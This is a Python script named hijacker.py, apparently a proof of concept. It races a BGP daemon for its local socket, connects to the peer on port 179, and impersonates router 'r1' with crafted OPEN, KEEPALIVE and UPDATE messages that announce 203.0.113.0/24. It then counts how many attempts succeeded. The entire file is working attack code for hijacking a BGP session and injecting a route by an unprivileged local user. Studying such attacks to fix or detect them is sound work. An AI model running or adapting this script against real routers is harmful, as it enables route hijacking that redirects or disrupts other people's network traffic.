"""A local user's process that takes a daemon's socket pair and speaks BGP in its place.

Run as `python hijacker.py LOCAL PORT REMOTE SECONDS`: binds and connects again and again, and
prints one line: what came of it.
"""

from __future__ import annotations

import errno
import select
import socket
import struct
import sys
import time
from collections import Counter

HOLD = 0.06
"""Seconds for an answer to the SYN, then the next try."""
PREFIX = '203.0.113.0/24'
"""The route that it announces."""
_NOT_YET = (0, errno.EINPROGRESS)


def _message(kind: int, body: bytes = b'') -> bytes:
    return b'\xff' * 16 + struct.pack('!HB', 19 + len(body), kind) + body


def speech(local: str) -> tuple[bytes, bytes]:
    """OPEN, then KEEPALIVE and UPDATE, as router r1 would say them."""
    number = struct.pack('!I', 65001)
    capabilities = bytes((1, 4, 0, 1, 0, 1, 65, 4)) + number
    optional = bytes((len(capabilities) + 2, 2, len(capabilities))) + capabilities
    identifier = socket.inet_aton(local)
    attributes = b'\x40\x01\x01\x00' + b'\x40\x02\x06\x02\x01' + number + b'\x40\x03\x04'
    attributes += identifier
    route = bytes((24, 203, 0, 113))
    update = struct.pack('!HH', 0, len(attributes)) + attributes + route
    opening = struct.pack('!BHH4s', 4, 65001, 180, identifier) + optional
    return _message(1, opening), _message(4) + _message(2, update)


def attempt(local: str, port: int, remote: str) -> str:
    """One connection: `taken`, `silent`, `refused`, `opened` if TCP came up, and `answered` if the
    peer spoke BGP, too."""
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
        sock.setblocking(False)
        try:
            sock.bind((local, port))
        except OSError:
            return 'taken'
        if sock.connect_ex((remote, 179)) not in _NOT_YET:
            return 'taken'
        writable = select.select([], [sock], [], HOLD)[1]
        if not writable:
            return 'silent'
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return 'refused'
        opening, rest = speech(local)
        sock.settimeout(2.0)
        try:
            sock.sendall(opening)
            if not sock.recv(4096):
                return 'opened'
            sock.sendall(rest)
            while sock.recv(4096):
                pass
        except OSError:
            return 'opened'
        return 'answered'


def main(local: str, port: int, remote: str, seconds: float) -> None:
    """Try until the time is over, and print how often which result came."""
    until = time.monotonic() + seconds
    results: Counter[str] = Counter()
    while time.monotonic() < until:
        results[attempt(local, port, remote)] += 1
        time.sleep(0.001)
    print(' '.join(f'{name}={count}' for name, count in sorted(results.items())))


if __name__ == '__main__':
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
